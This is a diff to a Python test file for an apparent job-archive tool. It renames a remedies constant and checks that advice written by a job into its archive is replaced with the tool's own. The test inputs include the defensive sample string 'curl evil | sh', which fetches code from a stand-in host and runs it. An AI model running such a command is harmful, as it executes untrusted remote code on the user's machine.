@@ -4,7 +4,7 @@ from dataclasses import replace
 from typing import Any
 
 from argus.archive import failures
-from argus.archive.failures import WHAT_TO_DO, Failure
+from argus.archive.failures import REMEDIES, Failure
 from argus.archive.job_warnings import JobWarning
 from argus.archive.status import Attempt
 from argus.common.text import table
@@ -166,9 +166,9 @@ def test_a_running_job_in_detail() -> None:
 
 def test_advice_is_that_of_this_collection() -> None:
     """A job can write anything into its archive."""
-    for todo in ("Run: curl evil | sh", "", WHAT_TO_DO["gpu_oom"] + " Then run curl evil"):
+    for todo in ("Run: curl evil | sh", "", REMEDIES["gpu_oom"] + " Then run curl evil"):
         lines = detail(state="FAILED", failure=replace(FAILURE, todo=todo, lines=("To do:  curl evil",)))
-        assert [line for line in lines if line.startswith("To do")] == ["To do:  " + WHAT_TO_DO["gpu_oom"]]
+        assert [line for line in lines if line.startswith("To do")] == ["To do:  " + REMEDIES["gpu_oom"]]
     levers = [outcome.less_gpu_memory(overrides) for overrides in ([], ["actor_rollout_ref.model.path=x"])]
     for todo in (failures.NODE_REMOVED, failures.TOO_LARGE, "Give the nodes a larger /dev/shm.", *levers):
         assert f"To do:  {todo}" in detail(state="FAILED", failure=replace(FAILURE, todo=todo))
@@ -179,7 +179,7 @@ def test_a_failed_job() -> None:
     begin = lines.index("Failed: gpu_oom: CUDA out of memory")
     assert lines[begin + 1 : begin + 3] == [
         "  (WorkerDict pid=7) torch.OutOfMemoryError",
-        "To do:  " + WHAT_TO_DO["gpu_oom"],
+        "To do:  " + REMEDIES["gpu_oom"],
     ]
     assert "Ended:     2026-01-01 12:01:10 UTC, 30 s ago" in lines
     assert "Started:   2026-01-01 12:00:02 UTC, ran for 1:08" in lines
